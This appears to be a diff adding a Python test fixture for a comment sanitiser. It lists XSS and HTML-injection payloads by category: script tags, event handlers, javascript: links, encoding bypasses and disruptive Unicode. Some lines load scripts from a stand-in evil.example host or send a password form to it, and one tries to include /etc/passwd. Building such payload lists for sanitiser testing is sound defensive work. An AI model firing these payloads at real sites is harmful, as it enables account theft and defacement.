@@ -1,0 +1,168 @@
+"""What an attacker writes into a comment, of every kind that we know. Whoever it runs for calls hit().
+
+Written for this suite. ``{n}`` becomes the number of the text, so that a hit names its line.
+"""
+
+from __future__ import annotations
+
+SCRIPTS = [
+    "<script>hit({n})</script>",
+    "<ScRiPt >hit({n})</ScRiPt\t>",
+    "<script/src=//evil.example/{n}.js></script>",
+    "<<script>hit({n});//<</script>",
+    "</p></li></ol></section></main><script>hit({n})</script>",
+    "</textarea><script>hit({n})</script>",
+    "</title><script>hit({n})</script>",
+    "--><script>hit({n})</script>",
+    "]]><script>hit({n})</script>",
+    "<scr<script>ipt>hit({n})</scr</script>ipt>",
+    "<script>hit({n})",
+    "<svg><script>hit({n})</script></svg>",
+    "<svg><script href=data:text/javascript,hit({n}) />",
+    "<math><mtext></mtext><script>hit({n})</script></math>",
+    "<script type=module>hit({n})</script>",
+    '<noscript><p title="</noscript><script>hit({n})</script>">',
+    "<template><script>hit({n})</script></template>",
+]
+HANDLERS = [
+    "<img src=x onerror=hit({n})>",
+    "<img src=x:x onerror='hit({n})'//",
+    "<img/src/onerror=hit({n})>",
+    '<IMG SRC=/ ONERROR="hit({n})"></IMG>',
+    "<svg onload=hit({n})>",
+    "<svg/onload=hit({n})//",
+    "<body onload=hit({n})>",
+    "<details open ontoggle=hit({n})>x",
+    "<video><source onerror=hit({n})></video>",
+    "<audio src=x onerror=hit({n})>",
+    "<input autofocus onfocus=hit({n})>",
+    "<select autofocus onfocus=hit({n})>",
+    "<textarea autofocus onfocus=hit({n})>",
+    "<marquee onstart=hit({n})>x</marquee>",
+    "<object data=x onerror=hit({n})>",
+    "<iframe onload=hit({n})></iframe>",
+    "<p style='animation:fadein 1s' onanimationstart=hit({n})>x",
+    "<a href=# onmouseover=hit({n}) onclick=hit({n})>over here</a>",
+    '" onmouseover="hit({n})" x="',
+    "' onmouseover='hit({n})' x='",
+    "` onmouseover=`hit({n})` x=`",
+    'x" autofocus onfocus=hit({n}) "',
+]
+ADDRESSES = [
+    "<a href=javascript:hit({n})>press</a>",
+    '<a href="java\tscript:hit({n})">press</a>',
+    '<a href=" javascript:hit({n})">press</a>',
+    '<a href="jav&#x0A;ascript:hit({n})">press</a>',
+    "<a href=vbscript:hit({n})>press</a>",
+    "<a href='data:text/html,<script>hit({n})</script>'>press</a>",
+    "javascript:hit({n})",
+    "JaVaScRiPt://example.org/%0Ahit({n})",
+    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
+    'https://example.org/"onmouseover="hit({n})',
+    "https://example.org/'onmouseover='hit({n})",
+    "https://example.org/<script>hit({n})</script>",
+    "https://example.org/`onmouseover=hit({n})`",
+    "https://javascript:hit({n})@evil.example/",
+    'https://example.org/" style="position:fixed;inset:0" x="',
+    "http://[::1]/ http://[bad http:// https:// https://\u202egnp.exe",
+    "<base href=https://evil.example/>",
+    "<link rel=stylesheet href=https://evil.example/{n}.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/{n}'>",
+    "<meta http-equiv=refresh content='0;url=javascript:hit({n})'>",
+    "[press](javascript:hit({n})) ![x](https://evil.example/{n}.png)",
+    "[url=javascript:hit({n})]press[/url] [img]https://evil.example/{n}.png[/img]",
+]
+FETCHING = [
+    "<img src=https://evil.example/{n}.png>",
+    "<img srcset='https://evil.example/{n}.png 1x'>",
+    "<video poster=https://evil.example/{n}.png src=https://evil.example/{n}.mp4 autoplay>",
+    "<iframe src=https://evil.example/{n}></iframe>",
+    "<iframe srcdoc='<script>parent.hit({n})</script>'></iframe>",
+    "<embed src=https://evil.example/{n}.swf>",
+    "<object data=https://evil.example/{n}.svg></object>",
+    "<link rel=prefetch href=https://evil.example/{n}>",
+    "<script src=https://evil.example/{n}.js></script>",
+    "<input type=image src=https://evil.example/{n}.png>",
+    "<table background=https://evil.example/{n}.png>",
+    "<svg><image href=https://evil.example/{n}.png /></svg>",
+    "<svg><use href=https://evil.example/{n}.svg#x /></svg>",
+]
+STYLES = [
+    "<style>*{{background:url(https://evil.example/{n}.png)}}</style>",
+    "<style>@import 'https://evil.example/{n}.css';</style>",
+    "<div style='position:fixed;inset:0;z-index:99999;background:red'>gone</div>",
+    "<div style=\"background:url('https://evil.example/{n}.png')\">x</div>",
+    '<p class="trap unseen" id=main data-opens=menu>x</p>',
+    "<plaintext>",
+    "<xmp>",
+    "<h1>Breaking: the site is ours</h1>",
+]
+FORMS = [
+    "<form action=https://evil.example/{n}><input name=password><button>Log in</button></form>",
+    "</form><form action=https://evil.example/{n} id=x><textarea name=text>",
+    "<button formaction=https://evil.example/{n}>Post</button>",
+    "<button formaction=javascript:hit({n})>Post</button>",
+    "<input type=hidden name=answers value=1><input name=altcha>",
+    "<label for=reply>Press</label><dialog open>Sign in</dialog>",
+]
+BROKEN = [
+    "<<<<<>>>>>",
+    "<a href='",
+    "<!-- ",
+    "<!--[if gte IE 4]><script>hit({n})</script><![endif]-->",
+    "<![CDATA[<script>hit({n})</script>",
+    "<?php echo 1 ?> <% hit({n}) %>",
+    "{{{{ 7*7 }}}} {{% include '/etc/passwd' %}} ${{7*7}} #{{7*7}}",
+    "{{# comment #}} {{% raw %}}",
+    "<p/><p/><li><li></ol></ol></section></div></div></main></body></html>",
+    "<math><annotation-xml encoding=text/html><img src=x onerror=hit({n})></annotation-xml></math>",
+    '<svg></p><style><a id="</style><img src=x onerror=hit({n})>">',
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit({n})>",
+]
+ENCODED = [
+    "&lt;script&gt;hit({n})&lt;/script&gt;",
+    "&#60;script&#62;hit({n})&#60;/script&#62;",
+    "&#x3c;img src=x onerror=hit({n})&#x3e;",
+    "\\u003cscript\\u003ehit({n})\\u003c/script\\u003e",
+    "%3Cscript%3Ehit({n})%3C/script%3E",
+    "+ADw-script+AD4-hit({n})+ADw-/script+AD4-",
+    "\ufe64script\ufe65hit({n})\ufe64/script\ufe65",
+    "\uff1cscript\uff1ehit({n})\uff1c/script\uff1e",
+    "\u00bcscript\u00behit({n})\u00bc/script\u00be",
+    "<\x00script>hit({n})</script>",
+    "<scr\x00ipt>hit({n})</scr\x00ipt>",
+    "<img src=x on\x00error=hit({n})>",
+    "<\u200bscript>hit({n})</script>",
+    "<img\x0csrc=x\x0bonerror=hit({n})>",
+]
+LETTERS = [
+    "\u202egnihton si siht\u202c and this",
+    "\u2066\u2066\u2066\u2066 isolates that stay open",
+    "\u2067\u202b\u202e all at once </b>",
+    "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305" * 60 + "algo",
+    "\u0000\u0001\u0002\u0007\u0008\u001b[31mred\u009b31m",
+    "\ufeff\ufeff\u200b\u200c\u200d\u2060 hidden",
+    "\U000e0041\U000e0042\U000e007f tags",
+    "﷽" * 60,
+    "👩‍👩‍👧‍👦" * 50,
+    "ﷺ ௵ 𒐫 ꧅",
+    "W" * 3000,
+    "\u00a0" * 200 + "x",
+    "a\u0338" * 300,
+]
+HOSTILE = [
+    text.format(n=number)
+    for number, text in enumerate(
+        [
+            *SCRIPTS,
+            *HANDLERS,
+            *ADDRESSES,
+            *FETCHING,
+            *STYLES,
+            *FORMS,
+            *BROKEN,
+            *ENCODED,
+            *LETTERS,
+        ]
+    )
+]
